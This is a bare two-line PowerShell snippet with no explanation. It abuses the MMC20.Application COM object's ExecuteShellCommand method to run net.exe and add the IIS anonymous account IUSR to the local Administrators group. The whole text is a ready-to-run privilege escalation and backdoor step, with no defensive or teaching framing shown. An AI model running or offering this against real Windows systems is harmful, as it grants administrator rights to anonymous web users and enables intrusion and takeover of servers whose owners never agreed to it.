$c = [Activator]::CreateInstance([Type]::GetTypeFromProgID('MMC20.Application'))
$c.Document.ActiveView.ExecuteShellCommand('net.exe',$null,'localgroup Administrators IUSR /add','7')
